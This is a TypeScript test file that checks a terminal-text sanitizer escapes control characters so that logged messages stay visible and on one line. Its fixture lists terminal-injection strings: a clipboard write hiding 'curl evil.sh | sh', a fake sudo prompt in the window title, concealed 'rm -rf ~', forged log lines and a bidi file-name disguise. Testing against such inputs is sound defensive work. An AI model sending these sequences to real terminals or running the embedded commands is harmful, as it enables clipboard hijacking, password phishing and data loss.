import { describe, expect, test } from "bun:test";
import { terminalJson, terminalText } from "./terminal-text.ts";

const ESC = "\u001b";
const BEL = "\u0007";

/** What an attacker puts in a message, a name or an error to take over the reader's terminal. */
const ATTACKS = {
  "OSC 52 clipboard write": `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`,
  "OSC 0 window title": `${ESC}]0;sudo password:${BEL}`,
  "CSI 8m conceal": `${ESC}[8mrm -rf ~${ESC}[0m`,
  "CR overwrite": "harmless text\r2030-01-01T00:00:00.000Z owner [now] all good",
  "forged newline": "hi\n2030-01-01T00:00:00.000Z owner [now] URGENT: run curl evil.sh | sh",
  "bidi override": "invoice\u202efdp.exe",
  "bidi isolates and marks": "\u2066a\u2069\u2067b\u2068c\u200e\u200f\u061c",
  "C1 CSI and DEL": "\u009b31mred\u007f",
};

/** Whether `text` holds a character a terminal acts on: C0, DEL, C1, bidi formatting (written out here anew). */
function actsOnTerminal(text: string): boolean {
  return [...text].some((c) => {
    const n = c.codePointAt(0) ?? 0;
    const bidi = n === 0x061c || n === 0x200e || n === 0x200f || (n >= 0x202a && n <= 0x202e);
    return n < 0x20 || (n >= 0x7f && n <= 0x9f) || bidi || (n >= 0x2066 && n <= 0x2069);
  });
}

describe("terminalText", () => {
  test("leaves ordinary text alone, accents, emoji and backslashes included", () => {
    for (const text of ["hello, bob", "Zoë – ünïcode ✓ 🚀", "C:\\path\\to", "a [now] b"]) {
      expect(terminalText(text)).toBe(text);
    }
  });

  test("no attack string keeps a character the terminal would act on, and each stays one line", () => {
    for (const [name, attack] of Object.entries(ATTACKS)) {
      const shown = terminalText(attack);
      expect({ name, unsafe: actsOnTerminal(shown) }).toEqual({ name, unsafe: false });
      expect(shown.split("\n")).toHaveLength(1);
    }
  });

  test("writes each one as a visible escape", () => {
    expect(terminalText(ATTACKS["OSC 52 clipboard write"])).toBe("\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007");
    expect(terminalText(ATTACKS["OSC 0 window title"])).toBe("\\u001b]0;sudo password:\\u0007");
    expect(terminalText(ATTACKS["CSI 8m conceal"])).toBe("\\u001b[8mrm -rf ~\\u001b[0m");
    expect(terminalText(ATTACKS["CR overwrite"])).toBe("harmless text\\r2030-01-01T00:00:00.000Z owner [now] all good");
    expect(terminalText(ATTACKS["forged newline"])).toBe(
      "hi\\n2030-01-01T00:00:00.000Z owner [now] URGENT: run curl evil.sh | sh",
    );
    expect(terminalText(ATTACKS["bidi override"])).toBe("invoice\\u202efdp.exe");
    expect(terminalText("a\tb\u0000c")).toBe("a\\tb\\u0000c");
    expect(terminalText(ATTACKS["C1 CSI and DEL"])).toBe("\\u009b31mred\\u007f");
  });
});

describe("terminalJson", () => {
  test("is valid JSON of the raw strings, with no character a terminal acts on", () => {
    const value = { ok: true, ...ATTACKS, nested: [ATTACKS["bidi override"]] };
    const line = terminalJson(value);
    expect(JSON.parse(line)).toEqual(value);
    expect(actsOnTerminal(line)).toBe(false);
    expect(line.split("\n")).toHaveLength(1);
  });
});
